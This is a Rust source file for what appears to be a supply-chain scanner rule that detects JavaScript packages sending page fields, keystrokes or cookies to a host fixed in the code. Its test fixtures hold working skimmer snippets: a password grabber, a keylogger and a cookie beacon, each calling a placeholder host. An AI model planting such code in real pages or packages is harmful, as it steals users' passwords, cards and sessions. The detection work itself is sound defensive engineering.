//! What somebody types into a page, or its cookies, go to a host that the package fixed.

use std::collections::BTreeMap;

use super::judge;
use super::matrix;
use super::{Context, Declaration, Example, Finding};
use crate::flow::Flow;
use crate::model::{Confidence, FileId, Origin, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "page-exfiltration",
    title: "Sends what a page holds to a host of its own choice",
    severity: Severity::Critical,
    summary: "Values of a page's fields, the keys that are pressed in it, or its cookies reach a host that the package fixed. That is how cards, passwords and sessions are taken from shops and logins.",
    advice: "Ask whose host it is and why it gets what people type. Look at every build of your pages since the package came in.",
    benign_when: "A payment or login widget sends its own fields to its own service; a tool that replays sessions or counts visitors says so.",
    references: &["CWE-200", "CWE-506", "T1056.001", "T1056.003"],
    examples: &[
        Example {
            name: "every password of the page goes away as a picture",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"document.addEventListener("submit", (event) => {
  const all = event.target.querySelectorAll("input[type=password]");
  new Image().src = "https://metrics.other.invalid/p?d=" + all[0].value;
}, true);"#,
                ),
            ],
        },
        Example {
            name: "a keylogger",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"let typed = "";
document.addEventListener("keydown", (event) => { typed += event.key; });
setInterval(() => { navigator.sendBeacon("https://metrics.other.invalid/k", typed); typed = ""; }, 5000);"#,
                ),
            ],
        },
        Example {
            name: "the cookies of every page go away",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.track = () => navigator.sendBeacon("https://metrics.other.invalid/c", document.cookie);"#,
                ),
            ],
        },
        Example {
            name: "a number that the page keeps for its service",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.track = (what) => navigator.sendBeacon("https://metrics.service.example/c", localStorage.getItem("visitor") + what);"#,
                ),
            ],
        },
        Example {
            name: "a search field that asks its service",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.attach = (input) => input.addEventListener("input", (event) => fetch("https://search.service.example/q?" + event.target.value));"#,
                ),
            ],
        },
        Example {
            name: "a card form that hands its fields to its own service when the shop asks",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js","homepage":"https://pay.example"}"#,
                ),
                (
                    "i.js",
                    r#"exports.tokenize = (form) => fetch("https://api.pay.example/v1/tokens", { method: "POST", body: JSON.stringify({ number: form.querySelector("[name=card]").value, cvc: form.querySelector("[name=cvc]").value }) });"#,
                ),
            ],
        },
    ],
    detect,
};

/// What is read where no single entry is asked for.
const WHOLE: [&str; 4] = ["*", "cookie", "localStorage", "sessionStorage"];

/// Words of fields that nobody but the page's owner should get.
const PRIVATE: [&[u8]; 10] = [
    b"assw",
    b"cardnumber",
    b"card-number",
    b"cc-",
    b"ccnum",
    b"credit",
    b"cvc",
    b"cvv",
    b"iban",
    b"mnemonic",
];

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let mut private: BTreeMap<FileId, bool> = BTreeMap::new();
    for flow in context.flows {
        let (id, Some(url)) = (flow.source.id, &flow.sink.target) else {
            continue;
        };
        let kept = flow.source.target.as_deref();
        if id == "storage.browser" && !kept.is_none_or(|name| WHOLE.contains(&name)) {
            continue;
        }
        if flow.id != "page-to-network"
            || !matches!(
                matrix::taker(&context.home, flow),
                Some(taker) if !matches!(taker, "own" | "registry" | "local" | "callers" | "unknown")
            )
        {
            continue;
        }
        let is_hidden = flow.sink.origin.has(Origin::Decoded);
        let is_unasked = judge::is_unasked(flow.reach);
        let is_silent = flow.sink.id == "network.beacon";
        let severity = match (id, is_private(context, flow, &mut private)) {
            ("page.keys", _) => Severity::Critical,
            // Clients of a service keep what they need to ask it.
            ("storage.browser", _) if !flow.is_unanswered && !is_silent => {
                match (is_hidden, is_unasked) {
                    (true, true) => Severity::Critical,
                    (false, true) => Severity::Medium,
                    (_, false) => Severity::Low,
                }
            }
            ("storage.browser", _) if is_hidden => Severity::Critical,
            ("storage.browser", _) => Severity::High,
            (_, true) if is_hidden => Severity::Critical,
            (_, true) if is_unasked => Severity::High,
            // No service answers a picture: it only takes.
            _ if is_silent || is_hidden => Severity::High,
            _ => continue,
        };
        let what = match id {
            "page.keys" => "the keys that are pressed in a page",
            "storage.browser" => "all that the page keeps in cookies or its storage",
            _ => "what is typed into the fields of a page",
        };
        let mut finding = Finding::of_flow(&FINDING, flow, format!("sent to {url}: {what}"));
        finding.severity = severity;
        if severity < Severity::Critical {
            finding.confidence = Confidence::Medium;
        }
        judge::by_reach(context, flow, &mut finding);
        found.push(finding);
    }
}

/// Whether a file on the way names fields for passwords or cards; each file is read once.
fn is_private(context: &Context<'_>, flow: &Flow, known: &mut BTreeMap<FileId, bool>) -> bool {
    const MOST_BYTES: usize = 4 << 20;
    flow.steps.iter().any(|step| {
        let file = step.place.file;
        *known.entry(file).or_insert_with(|| {
            let text = context.archive.bytes(file);
            let text = text.get(..MOST_BYTES).unwrap_or(text).to_ascii_lowercase();
            let names = |word: &&[u8]| memchr::memmem::find(&text, word).is_some();
            PRIVATE.iter().any(names)
        })
    })
}
